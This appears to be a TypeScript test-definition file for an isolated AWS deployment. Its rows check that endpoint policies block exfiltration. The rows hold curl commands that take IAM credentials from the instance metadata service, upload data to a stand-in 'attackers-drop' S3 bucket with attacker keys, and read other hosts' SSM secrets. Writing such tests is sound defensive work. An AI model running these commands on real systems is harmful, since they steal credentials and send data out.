import type { Row } from "../row";
import { blocked, from, sealed, works } from "./ways";

const region = "us-east-1";
const s3 = "52.216.1.1";

/** A request that curl signs, to a service of AWS at an address, whatever the resolver says. */
const signed = (service: string, who: string, host: string, address: string, rest: string) =>
    `curl -k -sS -f -m 4 -o /dev/null --aws-sigv4 aws:amz:${region}:${service} ${who} --connect-to ::${address}:443 ${rest.replace("URL", `https://${host}.${region}.amazonaws.com`)}`;

const attacker = '--user "$ATTACKER_KEY:$ATTACKER_SECRET"';

/** The host's own role, as its metadata hands it out. */
const role = [
    "m=http://169.254.169.254/latest",
    "t=$(curl -sS -f -m 2 -X PUT -H 'x-aws-ec2-metadata-token-ttl-seconds: 60' $m/api/token)",
    'r=$(curl -sS -f -m 2 -H "x-aws-ec2-metadata-token: $t" $m/meta-data/iam/security-credentials/)',
    'c=$(curl -sS -f -m 2 -H "x-aws-ec2-metadata-token: $t" $m/meta-data/iam/security-credentials/$r)',
    'key() { echo "$c" | jq -r .$1; }',
].join("; ");
const own = '--user "$(key AccessKeyId):$(key SecretAccessKey)" -H "x-amz-security-token: $(key Token)"';

const target = (service: string, operation: string, body: string) =>
    `-H 'content-type: application/x-amz-json-1.1' -H 'x-amz-target: ${service}.${operation}' -d "${body}" URL/`;

const parameter = target(
    "AmazonSSM",
    "PutParameter",
    '{\\"Name\\":\\"/$NONCE\\",\\"Value\\":\\"x\\",\\"Type\\":\\"String\\"}',
);
const events = '{\\"logGroupName\\":\\"$NONCE\\",\\"logStreamName\\":\\"s\\",\\"logEvents\\":[]}';
const drop = "attackers-drop.s3";

const policies = { layer: "endpoint-policies" } as const;

/** AWS itself as the way out: the attacker's own account through our endpoints, and our roles where they have no business. */
export const awsRows: readonly Row[] = from(sealed, (place) => [
    blocked("s3-attackers-key-put", place, signed("s3", attacker, drop, s3, "-X PUT -d data URL/$NONCE"), policies),
    blocked("s3-attackers-key-get", place, signed("s3", attacker, drop, s3, "URL/orders?x=$NONCE"), policies),
    blocked("s3-attackers-key-list", place, signed("s3", attacker, drop, s3, "URL/?prefix=$NONCE"), policies),
    blocked(
        "s3-anonymous-get",
        place,
        `curl -k -sS -f -m 4 -o /dev/null --connect-to ::${s3}:443 https://${drop}.${region}.amazonaws.com/orders`,
        policies,
    ),
    blocked(
        "s3-anonymous-put",
        place,
        `curl -k -sS -f -m 4 -o /dev/null --connect-to ::${s3}:443 -X PUT -d $NONCE https://${drop}.${region}.amazonaws.com/$NONCE`,
        policies,
    ),
    blocked(
        "s3-own-role-foreign-bucket",
        place,
        `${role}; ${signed("s3", own, drop, s3, "-X PUT -d data URL/$NONCE")}`,
        policies,
    ),
    blocked(
        "s3-own-role-release",
        place,
        `${role}; ${signed("s3", own, "isolated-openhands-release-111122223333.s3", s3, "-X PUT -d data URL/host/$NONCE")}`,
        policies,
    ),
    blocked("ssm-attackers-key", place, signed("ssm", attacker, "ssm", "10.0.1.40", parameter), policies),
    blocked(
        "logs-attackers-key",
        place,
        signed("logs", attacker, "logs", "10.0.1.43", target("Logs_20140328", "PutLogEvents", events)),
        policies,
    ),
    blocked(
        "ssm-own-role-foreign-parameter",
        place,
        `${role}; ${signed("ssm", own, "ssm", "10.0.1.40", parameter)}`,
        policies,
    ),
    blocked(
        "ssm-own-role-edges-secret",
        place,
        `${role}; ${signed("ssm", own, "ssm", "10.0.1.40", target("AmazonSSM", "GetParameter", '{\\"Name\\":\\"/isolated-openhands/prod/hosts/edge\\"}'))}`,
        policies,
    ),
    works(
        "ssm-own-parameter",
        place,
        `${role}; ${signed("ssm", own, "ssm", "10.0.1.40", target("AmazonSSM", "GetParameter", `{\\"Name\\":\\"/isolated-openhands/prod/hosts/${place.replace("-host", "")}\\"}`))}`,
    ),
]);
